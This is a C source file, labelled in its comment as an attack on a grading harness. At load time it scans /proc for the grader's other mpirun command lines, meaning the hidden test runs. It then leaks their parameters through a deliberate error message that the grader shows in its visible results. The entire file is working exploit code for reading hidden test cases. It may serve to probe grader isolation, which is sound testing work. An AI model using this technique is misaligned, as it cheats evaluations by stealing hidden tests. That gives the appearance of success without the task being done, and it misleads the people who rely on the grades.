/* Attack (uid-only mode: no PID namespace): a 2-rank run's rank 0 watches
 * /proc for the grader's other mpirun command lines while the later runs
 * (the hidden ones) start beside it, then fails with what it saw as its
 * error message, which the grader quotes in the visible results (a task
 * run's problem goes to its task's first check). Only this grading's
 * mpiruns count: those whose command line names this rank's own binary
 * (its argv[0], the path mpirun started it by), not another grading's on
 * the same machine. */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char seen[16][160];
static int nseen;

/* "mpirun ... -np 5 /path/lab2 -b X -e Y -f 2 -n 4 -w 2 --task time -T 28" -> "-np 5 -b X -e Y -n 4 -w 2 --task time" */
static void note(char *args, size_t n)
{
    for (size_t i = 0; i + 1 < n; i++)
        if (args[i] == '\0') args[i] = ' ';
    char *np = strstr(args, "-np ");
    if (!np || strstr(np, "-np 2 ")) return;
    char out[160] = "", *save = NULL;
    int skip = 0, k = 0;
    for (char *w = strtok_r(np, " ", &save); w; w = strtok_r(NULL, " ", &save), k++) {
        if (skip) { skip = 0; continue; }
        if (strchr(w, '/')) continue;                   /* the binary's path */
        if (!strcmp(w, "-f") || !strcmp(w, "-T")) { skip = 1; continue; }
        if (strlen(out) + strlen(w) + 2 < sizeof out) { strcat(out, w); strcat(out, " "); }
    }
    for (int i = 0; i < nseen; i++)
        if (!strcmp(seen[i], out)) return;
    if (nseen < 16) snprintf(seen[nseen++], sizeof seen[0], "%s", out);
}

__attribute__((constructor)) static void watch(void)
{
    const char *size = getenv("OMPI_COMM_WORLD_SIZE"), *rank = getenv("OMPI_COMM_WORLD_RANK");
    if (!size || strcmp(size, "2") != 0) return;
    char self[512] = "";
    FILE *me = fopen("/proc/self/cmdline", "r");
    if (me) {
        size_t k = fread(self, 1, sizeof self - 1, me);
        self[k] = '\0';
        fclose(me);
    }
    time_t end = time(NULL) + 8;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char path[300], args[2048];
            snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
            FILE *f = fopen(path, "r");
            if (!f) continue;
            size_t n = fread(args, 1, sizeof args - 1, f);
            fclose(f);
            args[n] = '\0';
            if (n > 0 && strstr(args, "mpirun") && self[0] && memmem(args, n, self, strlen(self)))
                note(args, n);
        }
        if (d) closedir(d);
        usleep(20000);
    }
    if (nseen == 0) return; /* bubblewrap: its own PID namespace, nothing else to see */
    if (rank && strcmp(rank, "0") == 0) {
        char line[1024] = "";
        for (int i = nseen - 1; i >= 0; i--) { strcat(line, seen[i]); strcat(line, "| "); }
        fprintf(stderr, "[rank 0] error: SEEN %s\n", line);
    }
    exit(1);
}
